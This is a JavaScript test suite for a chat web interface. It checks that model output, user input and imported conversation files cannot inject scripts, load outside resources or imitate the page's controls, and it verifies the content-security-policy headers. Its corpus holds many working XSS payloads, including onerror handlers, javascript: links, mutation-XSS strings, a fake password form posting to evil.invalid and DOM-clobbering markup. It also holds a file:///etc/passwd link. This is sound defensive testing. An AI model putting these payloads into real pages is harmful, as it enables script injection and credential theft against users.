// What a model may say to a browser: Markdown and HTML made to run scripts, reach out, dress up or take over. Nothing of it
// may run, leave the page, or look like the page's own parts.
import assert from 'node:assert/strict';
import { after, before, beforeEach, describe, it } from 'node:test';
import { chatOf, model, openPage, startBrowser, startServer, startStandIn, until } from './rig.mjs';

const away = 'http://evil.invalid';
const corpus = {
  'script element': '<script>window.pwned=1</script>',
  'script split by a comment': '<scr<!-- -->ipt>window.pwned=1</scr<!-- -->ipt>',
  'script from elsewhere': `<script src="${away}/x.js"></script>`,
  'module script': `<script type="module">import("${away}/x.js")</script>`,
  'image error': '<img src=x onerror="window.pwned=1">',
  'image of another site': `![pixel](${away}/pixel.png)`,
  'image in HTML': `<img src="${away}/a.png" srcset="${away}/b.png 2x">`,
  'image of a reference': `![a][b]\n\n[b]: ${away}/c.png`,
  'svg onload': '<svg onload="window.pwned=1"><animate onbegin="window.pwned=1" attributeName=x></svg>',
  'svg script': '<svg><script>window.pwned=1</script></svg>',
  'mathml link': '<math><maction actiontype="statusline" xlink:href="javascript:window.pwned=1">x</maction></math>',
  'mutation through noscript': '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  'mutation through style in math': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
  'mutation through form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>',
  'template': '<template><img src=x onerror=window.pwned=1></template>',
  'javascript link': '[click](javascript:window.pwned=1)',
  'javascript link, mixed case and tab': '[click](JaVa\tScRiPt:window.pwned=1) [click](<java\nscript:window.pwned=1>)',
  'javascript link, entities': '[click](&#106;avascript:window.pwned=1) [x](javascript&colon;window.pwned=1)',
  'javascript autolink': '<javascript:window.pwned=1>',
  'vbscript and file links': '[a](vbscript:x) [b](file:///etc/passwd) [c](data:text/html,<script>window.pwned=1</script>)',
  'link to this server': '[models](/v1/models) [state](//evil.invalid/x) [up](../x)',
  'link title breaking out': '[a](https://example.org "x\\" onmouseover=\\"window.pwned=1")',
  'link text breaking out': '[<img src=x onerror=window.pwned=1>](https://example.org)',
  'frame': `<iframe src="${away}"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  'object and embed': `<object data="${away}"></object><embed src="${away}"><applet code=x></applet>`,
  'base': `<base href="${away}/">`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${away}">`,
  'link stylesheet': `<link rel="stylesheet" href="${away}/x.css"><link rel=preload href="${away}/y" as=script>`,
  'style element': `<style>@import "${away}/x.css"; body{display:none}</style>`,
  'style attribute': `<p style="position:fixed;inset:0;background:url(${away}/bg.png)">cover</p>`,
  'class of the page': '<div class="sidebar shown">fake</div><div class="veil">fake</div>',
  'form': `<form action="${away}"><input name=password type=password><button>Sign in</button></form>`,
  'button taking over': '<button formaction="javascript:window.pwned=1" autofocus onfocus="window.pwned=1">x</button>',
  'clobbered names': '<a id="app" name="app">x</a><img name="document"><form id="location" name="cookie"></form>',
  'audio and video': `<video src="${away}/v.mp4" autoplay onloadstart="window.pwned=1"></video><audio src="${away}/a.mp3" autoplay>`,
  'marquee and details': '<marquee onstart="window.pwned=1">x</marquee><details open ontoggle="window.pwned=1">x</details>',
  'dialog': '<dialog open>Your key has expired</dialog>',
  'code fence that ends early': '```html\n</code></pre><img src=x onerror=window.pwned=1>\n```',
  'code language breaking out': '```"><img src=x onerror=window.pwned=1>\ncode\n```\n\n- ```" onmouseover="window.pwned=1\n  code\n  ```',
  'code of a known language': '```html\n<script>window.pwned=1</script><img src=x onerror="window.pwned=1">\n```',
  'table cell': '| a |\n|---|\n| <img src=x onerror=window.pwned=1> |',
  'heading': '# <img src=x onerror=window.pwned=1>',
  'unclosed everything': '<div><p><b><i><a href="javascript:window.pwned=1"><img src=x onerror=window.pwned=1',
  'null bytes': '<scr\u0000ipt>window.pwned=1</scr\u0000ipt><img\u0000src=x\u0000onerror=window.pwned=1>',
  'direction override': '[safe](https://example.org/\u202Egnp.exe)',
  'character that closes a comment': '<!--><img src=x onerror=window.pwned=1>-->',
  'CDATA and instructions': '<![CDATA[<img src=x onerror=window.pwned=1>]]><?xml-stylesheet href="x"?>',
  'deep nesting': '>'.repeat(2000) + ' deep',
  'deep list': Array.from({ length: 300 }, (_, i) => ' '.repeat(2 * i) + '- x').join('\n'),
  'deep brackets': '['.repeat(5000) + ']'.repeat(5000),
  'many emphases': '*a **b '.repeat(2000),
  'long word': 'a'.repeat(200_000),
  'no words at all': '\n\n\n \u200b',
  'lone surrogates': 'a\ud800b\udc00c',
};

let server, standIn, browser, page, chat;
const script = { pieces: [] };
before(async () => {
  server = await startServer();
  standIn = await startStandIn(server.url, script);
  browser = await startBrowser();
  page = await openPage(browser.context, standIn.url);
  chat = chatOf(page);
  await page.waitForFunction((name) => document.querySelector('.picker')?.textContent.includes(name), model);
});
after(async () => {
  await browser?.stop();
  await standIn?.stop();
  await server?.stop();
});
beforeEach(() => {
  page.offences.length = 0;
});

/** What the answer put into the page. */
const findings = () => page.evaluate(() => {
  const found = [];
  const allowed = new Set(['A', 'BLOCKQUOTE', 'BR', 'CODE', 'DEL', 'DIV', 'EM', 'H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'HR', 'INPUT', 'LI', 'OL',
    'P', 'PRE', 'SPAN', 'STRONG', 'TABLE', 'TBODY', 'TD', 'TH', 'THEAD', 'TR', 'UL', 'BUTTON', 'svg', 'path']);
  for (const el of document.querySelectorAll('.assistant .markdown *')) {
    if (!allowed.has(el.tagName)) found.push(`<${el.tagName}>`);
    if ((el.tagName === 'BUTTON' || el.tagName === 'svg') && !el.closest('.code-head')) found.push('a control of ours');
    if (el.tagName === 'INPUT' && (el.type !== 'checkbox' || !el.disabled)) found.push(`<input ${el.type}>`);
    for (const { name, value } of el.attributes) {
      if (name.startsWith('on') || ['style', 'id', 'name', 'src', 'srcset', 'formaction', 'action'].includes(name)) found.push(`${name}=${value}`);
      if (name === 'href' && !/^(https?|mailto):/.test(value)) found.push(`href=${value}`);
      if (name === 'class' && /sidebar|veil|menu|button|round|bubble|offscreen/.test(value) && !el.closest('.code-head')) found.push(`class=${value}`);
    }
    if (el.tagName === 'A' && (el.target !== '_blank' || !/noopener/.test(el.rel))) found.push(`link without noopener: ${el.outerHTML}`);
  }
  if (window.pwned) found.push('a script ran');
  return found;
});

async function hear(text, pieces) {
  await page.keyboard.press('Control+k');
  Object.assign(script, { pieces: pieces ?? [text], pauseMs: 0, burst: 1 });
  await chat.say('Speak.');
  await chat.answered(1);
  for (const link of await page.locator('.assistant .markdown a').all()) await link.hover({ timeout: 1000 }).catch(() => {});
  assert.deepEqual(await findings(), []);
  assert.deepEqual(page.offences, []);
}

describe('from the model’s mouth', () => {
  for (const [name, text] of Object.entries(corpus)) it(name, () => hear(text));

  it('all of it, a few characters at a time', async () => {
    const short = Object.values(corpus).filter((text) => text.length < 1000).join('\n\n');
    Object.assign(script, { burst: 40 });
    await hear(short, short.match(/[^]{1,7}/g));
  });

  it('all of it again after a reload', async () => {
    await page.reload();
    await chat.answers.first().waitFor();
    assert.deepEqual(await findings(), []);
    assert.deepEqual(page.offences, []);
  });

  it('from a person and from a file too', async () => {
    await page.keyboard.press('Control+k');
    script.pieces = ['ok'];
    await chat.say('<img src=x onerror="window.pwned=1"> <script>window.pwned=1</script>');
    await chat.answered(1);
    const evil = { format: 'millrace-conversations', version: 1, conversations: [{ title: '<img src=y onerror=window.pwned=1>',
      messages: { a: { id: 'a', parent: '', role: 'assistant', content: corpus['image error'], model: '<b onclick=x>', error: '<i>', ending: 'error' } } }] };
    await page.locator('input[type=file]').setInputFiles({ name: 'x.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(evil)) });
    await page.getByText('One conversation imported.').waitFor();
    await chat.titles.filter({ hasText: 'src=y' }).click();
    await chat.answers.first().getByRole('alert').waitFor();
    assert.deepEqual(await findings(), []);
    assert.deepEqual(page.offences, []);
  });

  it('shows raw HTML as the words it is', async () => {
    await hear('Use <b>bold</b> and <script>x</script>.');
    assert.match(await page.locator('.assistant .markdown').textContent(), /Use <b>bold<\/b> and <script>x<\/script>\./);
  });

  it('still shows what is meant well', async () => {
    await hear('# Title\n\n**bold** _em_ ~~del~~ [link](https://example.org/a?b=c&d=e) `code`\n\n- [x] done\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n\n' +
      '```python\ndef f():\n    return 1\n```\n\nSee [ref].\n\n[ref]: https://example.org/ref\n');
    const has = (selector) => page.locator(`.assistant .markdown ${selector}`).first().waitFor({ state: 'attached' });
    for (const selector of ['h1', 'strong', 'em', 'del', 'a[href="https://example.org/a?b=c&d=e"]', 'code', 'input[type=checkbox]',
      'td[align=right]', '.hljs-keyword', 'a[href="https://example.org/ref"]']) await has(selector);
  });
});

describe('the guard', () => {
  it('would notice: a page without our walls fails these checks', async () => {
    await page.evaluate((html) => {
      const box = document.createElement('div');
      box.className = 'assistant';
      box.innerHTML = `<div class="markdown">${html}</div>`;
      document.body.append(box);
    }, corpus['image error'] + corpus['style attribute'] + corpus['javascript link']);
    await until(() => page.offences.some((o) => o.startsWith('POLICY')), 'the policy stopped the handler');
    const found = await findings();
    assert.ok(found.some((f) => f.startsWith('onerror')) && found.some((f) => f.startsWith('style')));
    assert.ok(!found.includes('a script ran'), 'even then nothing runs');
  });

  it('every answer of the pages carries the policy', async () => {
    for (const path of ['/', ...(await page.evaluate(() => performance.getEntriesByType('resource').map((e) => new URL(e.name).pathname)))]) {
      if (path !== '/' && !path.startsWith('/assets/')) continue;
      const { headers } = await fetch(server.url + path);
      assert.match(headers.get('content-security-policy'), /^default-src 'none'; script-src 'self'; /);
      assert.equal(headers.get('x-content-type-options'), 'nosniff');
      assert.equal(headers.get('referrer-policy'), 'no-referrer');
    }
  });
});
